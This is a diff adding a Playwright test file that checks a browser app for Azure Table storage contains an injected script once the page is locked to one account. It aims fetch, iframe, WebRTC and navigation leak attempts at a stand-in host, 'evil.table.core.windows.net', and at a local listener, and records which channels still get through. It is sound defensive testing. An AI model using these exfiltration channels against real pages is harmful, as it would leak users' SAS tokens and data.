@@ -1,0 +1,264 @@
+// The page once it is locked to an account: what a script that got into it can still send, and where. On a host
+// without headers of ours, which is the weaker of the two ways in which the page is delivered.
+import type { BrowserContext, Locator, Page } from 'playwright/test';
+import { recommendedRule } from './rig/corsRules.ts';
+import { type BareHost, startBareHost } from './support/bareHost.ts';
+import {
+  chooseTable,
+  connectWith,
+  disconnect,
+  idle,
+  open,
+  openConnectDialog,
+  runQuery,
+  statusText,
+  tryConnect,
+} from './support/keyscopePage.ts';
+import { ATTEMPTS, CHANNELS } from './support/leakChannels.ts';
+import { type LeakListener, startLeakListener } from './support/leakListener.ts';
+import { expect, hurry, test as base } from './support/scripted.ts';
+
+const EVIL = 'evil.table.core.windows.net';
+
+interface Outside {
+  /** Serves the page, without headers of ours. */
+  readonly host: BareHost;
+  readonly listener: LeakListener;
+  /** Where an Azure table endpoint of somebody else would answer. */
+  readonly evil: LeakListener;
+  /** Of a browser that takes the evil endpoint for the listener on this machine. */
+  readonly context: BrowserContext;
+}
+
+const test = base.extend<{ readonly outside: Outside }>({
+  outside: async ({ app, playwright, launchOptions }, use) => {
+    expect(app.url, 'the build is there').not.toBe('');
+    const [host, listener, evil] = await Promise.all([
+      startBareHost(),
+      startLeakListener(),
+      startLeakListener(EVIL),
+    ]);
+    const rule = `--host-resolver-rules=MAP ${EVIL}:443 127.0.0.1:${evil.port}`;
+    const browser = await playwright.chromium.launch({
+      ...launchOptions,
+      args: [...(launchOptions.args ?? []), rule],
+    });
+    await use({ host, listener, evil, context: await browser.newContext({ ignoreHTTPSErrors: true }) });
+    await browser.close();
+    await Promise.all([host.close(), listener.close(), evil.close()]);
+  },
+});
+
+async function tryEveryChannel(page: Page, address: string): Promise<void> {
+  for (const attempt of ATTEMPTS) await page.evaluate(attempt, address);
+}
+
+function arrived(listener: LeakListener, from: string): readonly string[] {
+  return CHANNELS.filter((channel) => listener.paths().includes(`/${from}/${channel}`));
+}
+
+test('an injected script gets nothing out, by no channel, to no other host', async ({
+  outside: { host, listener, evil, context },
+  startScripted,
+}) => {
+  const { service, proxy } = await startScripted(['Orders'], { cors: [recommendedRule(host.origin)] });
+  const here = `http://127.0.0.1:${listener.port}`;
+  const page = await context.newPage();
+  await page.goto(`${host.origin}/#/query`);
+  await idle(page);
+  // Both can be reached as long as no SAS is there: the page does not know yet which account it will be.
+  const reach = (url: string) => page.evaluate((to) => fetch(to).then(String, String), url);
+  await reach(`${here}/before/fetch`);
+  await reach(`https://${EVIL}/before`);
+  expect([listener.paths(), evil.paths()]).toEqual([['/before/fetch'], ['/before']]);
+
+  await connectWith(page, `${proxy.endpoint}?${service.accountSas()}`);
+  await tryEveryChannel(page, `${here}/locked`);
+  await tryEveryChannel(page, `https://${EVIL}/locked`);
+  // Nor after the elements that hold the policies are gone.
+  await page.evaluate(() => {
+    for (const meta of document.querySelectorAll('meta')) meta.remove();
+  });
+  await tryEveryChannel(page, `${here}/without-meta`);
+  await idle(page);
+
+  // The same in a page without a policy: every channel is one, and by then the attempts above have had their time.
+  const unprotected = await context.newPage();
+  await unprotected.goto(`${host.origin}/unprotected.html`);
+  await tryEveryChannel(unprotected, `${here}/open`);
+  await expect.poll(() => CHANNELS.filter((one) => !arrived(listener, 'open').includes(one))).toEqual([]);
+  expect(arrived(listener, 'locked')).toEqual([]);
+  expect(arrived(listener, 'without-meta')).toEqual([]);
+  expect(listener.paths().filter((path) => !/^\/(?:before|open)\//.test(path))).toEqual([]);
+  expect(evil.paths()).toEqual(['/before']);
+
+  // And the page still does what it is for.
+  await chooseTable(page, 'Orders');
+  expect(await runQuery(page)).toMatch(/^Complete: /);
+});
+
+test('what no policy stops is what the README names as limits', async ({
+  outside: { host, listener, evil, context },
+  startScripted,
+}) => {
+  const { service, proxy } = await startScripted(['Orders'], { cors: [recommendedRule(host.origin)] });
+  const page = await context.newPage();
+  await page.goto(`${host.origin}/#/query`);
+  await idle(page);
+  await connectWith(page, `${proxy.endpoint}?${service.accountSas()}`);
+  expect(await page.evaluate(() => performance.getEntriesByType('resource').length)).toBe(0);
+
+  // What a script can read: the addresses of later requests.
+  await page.evaluate(() => {
+    const seen: string[] = [];
+    Reflect.set(window, 'seenByObserver', seen);
+    new PerformanceObserver((list) => {
+      for (const { name } of list.getEntries()) seen.push(name);
+    }).observe({ type: 'resource' });
+  });
+  await chooseTable(page, 'Orders');
+  await expect
+    .poll(() => page.evaluate(() => (Reflect.get(window, 'seenByObserver') as string[]).join(' ')))
+    .toContain('sig=');
+  // What it can send: a host name, since the browser connects for a frame before it asks the policy; a connection of
+  // WebRTC; and the tab itself.
+  await page.evaluate((src) => {
+    document.body.append(Object.assign(document.createElement('iframe'), { src }));
+  }, `https://${EVIL}`);
+  await expect.poll(evil.connections).toBeGreaterThan(0);
+  expect(evil.paths(), 'no more than the connection').toEqual([]);
+  const before = listener.connections();
+  await page.evaluate(async (port) => {
+    const peer = new RTCPeerConnection({
+      iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'anything', credential: 'x' }],
+    });
+    peer.createDataChannel('x');
+    await peer.setLocalDescription(await peer.createOffer());
+  }, listener.port);
+  await expect.poll(listener.connections).toBeGreaterThan(before);
+  await page.evaluate((to) => location.assign(to), `http://127.0.0.1:${listener.port}/navigated`);
+  await expect.poll(listener.paths).toContain('/navigated');
+});
+
+test('a page inside another page takes no SAS and says why', async ({ outside: { host, context }, app }) => {
+  const page = await context.newPage();
+  await page.goto(`${host.origin}/around.html`);
+  const inner = page.frameLocator('iframe');
+  await inner.getByRole('button', { name: 'Connection', exact: true }).click();
+  const dialog = inner.getByRole('dialog');
+  await expect(dialog.getByRole('alert')).toContainText('takes no SAS while it is shown inside another page');
+  await expect(dialog.getByRole('link', { name: 'Open in a new tab' })).toBeVisible();
+  await expect(dialog.getByRole('textbox')).toHaveCount(0);
+  await expect(dialog.getByRole('button', { name: /Connect/ })).toHaveCount(0);
+  // Where headers can be sent, it is not even shown.
+  await page.evaluate((url) => {
+    const frame = document.createElement('iframe');
+    frame.id = 'with-headers';
+    frame.src = url;
+    const shown = new Promise((resolve) => frame.addEventListener('load', resolve));
+    document.body.append(frame);
+    return shown.then(() => undefined);
+  }, app.url);
+  await expect(page.frameLocator('#with-headers').getByRole('button', { name: 'Connection' })).toHaveCount(0);
+});
+
+test.describe('another account', () => {
+  test.use({ expectedErrors: [/Failed to load resource/] });
+
+  test('needs a page that is loaded anew: said before anything is sent, and the address stays', async ({
+    page,
+    app,
+    startScripted,
+  }) => {
+    const first = await startScripted(['Orders']);
+    const second = await startScripted(['Orders']);
+    const address = '#/query?v=1&table=Orders&scheme=none&from=now-6h&to=now';
+    await open(page, address);
+    const expired = `${first.proxy.endpoint}?${first.service.accountSas()}`;
+    first.proxy.setRules([{ action: { kind: 'expired' } }]);
+    const refused = await tryConnect(page, expired);
+    await expect(refused.getByRole('alert')).toContainText('403');
+    const field = refused.getByRole('textbox', { name: 'SAS URL or connection string' });
+
+    // The same account may be tried again; another one, or the demo, may not.
+    for (const press of [
+      async () => {
+        await field.fill(second.sasUrl);
+        await refused.getByRole('button', { name: 'Connect', exact: true }).click();
+      },
+      async () => refused.getByRole('button', { name: 'Connect to demo account' }).click(),
+    ]) {
+      await press();
+      await expect(refused.getByRole('alert')).toContainText(`locked to ${first.proxy.endpoint}`);
+      await expect(refused.getByRole('alert')).toContainText('Reload the page');
+      await expect(field).toHaveValue('');
+    }
+    first.proxy.setRules([]);
+    await field.fill(expired);
+    await refused.getByRole('button', { name: 'Connect', exact: true }).click();
+    await refused.waitFor({ state: 'hidden' });
+    expect(second.proxy.log.all()).toEqual([]);
+    expect(app.proxy.log.all()).toEqual([]);
+
+    await openConnectDialog(page);
+    const connected = page.url();
+    await disconnect(page);
+    expect(page.url()).toBe(connected);
+    expect(connected).toContain('table=Orders');
+    await connectWith(page, second.sasUrl);
+    expect(second.proxy.log.count('GET')).toBeGreaterThan(0);
+  });
+
+  test('the Reload button of that refusal loads the page anew', async ({ page, startScripted }) => {
+    const first = await startScripted(['Orders']);
+    const second = await startScripted(['Orders']);
+    await open(page, '#/query?v=1&table=Orders&scheme=none');
+    first.proxy.setRules([{ action: { kind: 'expired' } }]);
+    await tryConnect(page, first.sasUrl);
+    const dialog = await pasteAgain(page, second.sasUrl);
+    const loaded = page.waitForEvent('load');
+    await dialog.getByRole('button', { name: 'Reload' }).click();
+    await loaded;
+    await idle(page);
+    expect(page.url()).toContain('table=Orders');
+    await connectWith(page, second.sasUrl);
+  });
+});
+
+async function pasteAgain(page: Page, text: string): Promise<Locator> {
+  const dialog = page.getByRole('dialog');
+  await dialog.getByRole('textbox', { name: 'SAS URL or connection string' }).fill(text);
+  await dialog.getByRole('button', { name: 'Connect', exact: true }).click();
+  await idle(page);
+  return dialog;
+}
+
+test.describe('redirects', () => {
+  test.use({ expectedErrors: [/Failed to load resource|Fetch API cannot load/] });
+
+  test('are not followed, inside of the account or out of it', async ({
+    page,
+    outside: { listener },
+    startScripted,
+  }) => {
+    const { proxy, sasUrl } = await startScripted(['Orders']);
+    await hurry(page);
+    await open(page, '#/query');
+    await connectWith(page, sasUrl);
+    await chooseTable(page, 'Orders');
+    for (const [to, status] of [
+      [`http://127.0.0.1:${listener.port}/redirected`, 302],
+      [`${proxy.endpoint}/redirected`, 307],
+    ] as const) {
+      proxy.setRules([{ action: { kind: 'redirect', to, status } }]);
+      await page.getByRole('button', { name: 'Run query' }).click();
+      const sent = () => proxy.log.all().filter((one) => one.status === status).length;
+      await expect.poll(sent, { message: `${status} to ${to}` }).toBeGreaterThan(1);
+      await page.getByRole('button', { name: 'Cancel' }).click();
+      await idle(page);
+      expect(await statusText(page)).not.toMatch(/^Complete/);
+    }
+    expect(listener.connections()).toBe(0);
+    expect(proxy.log.all().filter(({ table }) => table === 'redirected')).toEqual([]);
+  });
+});
